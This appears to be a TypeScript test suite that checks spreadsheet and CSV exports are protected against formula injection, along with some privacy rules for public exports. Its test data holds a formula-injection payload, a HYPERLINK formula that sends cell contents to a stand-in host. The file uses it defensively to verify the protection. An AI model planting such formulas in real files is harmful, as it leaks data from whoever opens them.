import { expect } from 'vitest'
import { sql } from 'kysely'
import { strFromU8, unzipSync } from 'fflate'
import { readXlsx, writeCsv } from '../kernel/sheets/index.ts'
import { exportHandlers } from '../kernel/exports/actions.ts'
import { askExport, exporters } from '../kernel/exports/contract.ts'
import { filterLabel } from '../kernel/exports/exportable.ts'
import { isBanner } from '../kernel/exports/face.ts'
import { withoutMarks } from '../kernel/exports/mark.ts'
import type { ListDeclaration } from '../kernel/action.ts'
import { implementList, type Handler } from '../kernel/implement.ts'
import type { Role } from '../kernel/org/roles.ts'
import { somebodyAs } from '../test/may.ts'
import { fetchFile } from '../test/exports.ts'
import { World, test, type Somebody } from '../test/world.ts'
import { exportablesOf } from './list-export.ts'
import { handlers, jobs } from './modules.ts'

type ListHandler = Handler & { kind: 'list' }
const lists = handlers.filter((handler): handler is ListHandler => handler.kind === 'list')

/** What a spreadsheet would run, in front of every text; the full-width ones are made half-width by some of them. */
const prefixes = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']
const payload = (prefix: string, key: string): string => `${prefix}HYPERLINK("http://x.example/"&A1,"${key}看")`

/** The same list over rows that hold nothing but attacks. */
const hostile = ({ declaration }: ListHandler): Handler => {
  const keys = Object.keys(declaration.columns)
  const rows = prefixes.map((prefix) => Object.fromEntries(keys.map((key) => [key, payload(prefix, key)])))
  // Beside what is shown stands who a row is about: those whose data is restricted are left out by it.
  const columns = sql.raw([...keys.map((key) => `"${key}" text`), ...['id', 'person_id'].filter((key) => !keys.includes(key)).map((key) => `"${key}" uuid`)].join(', '))
  return implementList(declaration, ({ db }) => db.selectFrom(sql<Record<string, unknown>>`(select * from jsonb_to_recordset(${JSON.stringify(rows)}::jsonb) as attack(${columns}))`.as('attack')).selectAll())
}

/** Filters that a list cannot do without, with an id that is nobody's. */
const nowhere = '00000000-0000-7000-8000-000000000000'
const filtersFor = (declaration: ListDeclaration): Record<string, unknown> => {
  const filters: Record<string, unknown> = declaration.name === 'indicators.records' ? { figure: 'people.total' } : {}
  const missing = declaration.filters.safeParse(filters).error?.issues ?? []
  return { ...filters, ...Object.fromEntries(missing.map(({ path }) => [String(path[0]), nowhere])) }
}

// clause: ASVS 1.1.2
test('no list lets a formula out: whatever stands in front of a text, its cell is text and reads as it was', async () => {
  const stand = lists.map(hostile)
  const others = handlers.filter(({ kind, declaration }) => kind !== 'list' && !declaration.name.startsWith('exports.'))
  const asking = exportHandlers(() => exportablesOf(stand)).filter(({ kind }) => kind !== 'list')
  const world = await World.begin('2026-06-15', { handlers: [...others, ...stand, ...asking], jobs })
  const people = new Map<Role, Somebody>()
  const as = async (role: Role) => {
    const known = people.get(role) ?? (await somebodyAs(world, role))
    people.set(role, known)
    return known
  }
  const seen: string[] = []
  try {
    for (const { declaration } of lists) {
      const { name, may, columns } = declaration
      const role = exporters.find((one) => may === 'public' || may.includes(one)) ?? 'talent'
      const who = await as(role)
      const filters = filtersFor(declaration)
      const body = declaration.openExport || role === 'talent' ? { filters } : { exportId: (await who.does(askExport, { list: name, filters, purpose: 'statistics', reason: '核对名单的完整性' })).exportId }
      const file = await fetchFile(world, who, name, body)
      expect([name, file.statusCode]).toEqual([name, 200])
      const sheet = strFromU8(unzipSync(file.rawPayload)['xl/worksheets/sheet1.xml'] ?? new Uint8Array())
      expect([name, sheet.match(/<f[ >]|<c (?![^>]*t="inlineStr")[^>]*>/g)]).toEqual([name, null])
      const cells = (await Array.fromAsync(readXlsx(file.rawPayload))).map((row) => row.cells.map(withoutMarks)).filter((row) => !isBanner(row))
      const keys = Object.keys(columns)
      const wanted = prefixes.map((prefix) => keys.map((key) => payload(prefix, key).trim()))
      const got = cells.slice(1).map((row) => row.slice(0, keys.length).map((cell) => cell.trim()))
      expect([name, got.toSorted(byFirst)]).toEqual([name, wanted.toSorted(byFirst)])
      seen.push(name)
    }
  } finally {
    await world.end()
  }
  expect(seen).toEqual(lists.map(({ declaration }) => declaration.name))
}, 240_000)
const byFirst = (a: readonly string[], b: readonly string[]) => (a.join('\t') < b.join('\t') ? -1 : 1)

test('the check sees a formula: a cell of another type and a formula are found', () => {
  const found = (sheet: string) => sheet.match(/<f[ >]|<c (?![^>]*t="inlineStr")[^>]*>/g)
  expect(found('<c s="2"><f>1+1</f></c>')).not.toBeNull()
  expect(found('<c t="str" s="2"><v>x</v></c>')).not.toBeNull()
  expect(found('<c t="inlineStr" s="2"><is><t>=1+1</t></is></c>')).toBeNull()
})

test('a CSV puts an apostrophe before each of them', async () => {
  const [, ...lines] = Buffer.concat(await Array.fromAsync(writeCsv({ sheet: '甲', heads: ['甲'] }, prefixes.map((prefix) => [payload(prefix, '甲')])))).toString().split('\r\n').filter(Boolean)
  expect(lines.length).toBe(prefixes.length)
  for (const line of lines) expect(line.replace(/^"/, '').startsWith("'")).toBe(true)
})

test('every condition of every list that asks for a purpose has a word, and what is open to the public is an open export', () => {
  const without = lists.flatMap(({ declaration }) => (declaration.openExport ? [] : Object.keys(declaration.filters.shape).filter((key) => filterLabel(declaration, key) === undefined).map((key) => `${declaration.name} ${key}`)))
  expect(without).toEqual([])
  expect(lists.filter(({ declaration }) => declaration.may === 'public' && !declaration.openExport).map(({ declaration }) => declaration.name)).toEqual([])
})

test('no list that names a person is an open export', () => {
  // What the public notice shows of a name is masked; the line of a course names who holds it, an institution.
  const names = /person|holder|payee|recipient|account|phone|document|asker|maker/i
  const open = lists.filter(({ declaration }) => declaration.openExport)
  expect(open.length).toBeGreaterThan(0)
  expect(open.flatMap(({ declaration }) => Object.keys(declaration.columns).filter((key) => names.test(key) && !/^(document|documentNumber|floorDocument)$/.test(key)).map((key) => `${declaration.name} ${key}`))).toEqual([])
})
